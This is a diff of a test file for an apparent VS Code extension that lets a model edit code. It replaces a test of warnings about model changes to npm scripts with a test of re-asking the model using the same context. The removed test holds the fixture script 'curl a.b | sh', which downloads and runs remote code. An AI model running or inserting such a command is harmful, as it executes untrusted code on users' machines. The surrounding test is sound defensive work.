@@ -1,6 +1,6 @@
 import assert from "node:assert/strict";
 import * as vscode from "vscode";
-import { eventually, textIs } from "../hearth";
+import { eventually, inWorkspace, textIs } from "../hearth";
 import { ui } from "../ui";
 import { block, open, savedAs, useEditBench } from "./edits";
 
@@ -45,20 +45,25 @@ describe("what the user decides about a change that a model made", () => {
     await savedAs(editor, before);
   });
 
-  it("is asked for by name where scripts of package.json are others", async () => {
-    const json = '{\n  "scripts": { "test": "mocha" }\n}\n';
-    const editor = await open("part/package.json", json);
-    await (await bench().ask(editor, 2, 2)).ends(block('  "scripts": { "test": "curl a.b | sh" }', "json"));
-    await bench().done();
-    for (const answer of ["Leave It", "Change part/package.json"]) {
-      const accepting = bench().edits.acceptAll();
-      // Where nothing was decided, there is something to ask about.
-      await ui.waitForQuickInput("It changes scripts that npm runs");
-      await ui.chooseQuickPick(answer);
-      await accepting;
-    }
-    await bench().edits.discardAll();
-    await savedAs(editor, json.replace("mocha", "curl a.b | sh"));
+  it("is to ask again for what is no words of the user's, with what the code uses as it was shown before", async () => {
+    await open("prices.ts", "export function priceOf(item: string): number {\n  return item.length;\n}\n");
+    const editor = await open("shop.ts", 'import { priceOf } from "./prices";\n\nexport const price = priceOf("a");\n');
+    const languages = vscode.languages.registerDefinitionProvider("typescript", {
+      provideDefinition: () => new vscode.Location(inWorkspace("prices.ts"), new vscode.Position(0, 16)),
+    });
+    const request = { instruction: "mend it", background: "Mind the tax.", isAction: true };
+    const starting = bench().edits.start(editor, { from: 2, to: 3 }, request);
+    await eventually("the model is asked", () => bench().backend.calls.length === 1);
+    const { question, sources } = bench().backend.call;
+    assert.match(question, /Mind the tax\.\s+From prices\.ts:/);
+    await bench().backend.call.ends(block('export const price = priceOf("b");'));
+    await starting;
+    const asking = bench().edits.askAgain();
+    await eventually("the model is asked again", () => bench().backend.calls.length === 2);
+    languages.dispose();
+    assert.deepEqual([bench().backend.call.question, bench().backend.call.sources], [question, sources]);
+    await bench().backend.call.ends(block('export const price = priceOf("c");'));
+    await asking;
   });
 
   /** The buttons above two changes, as they are now. */
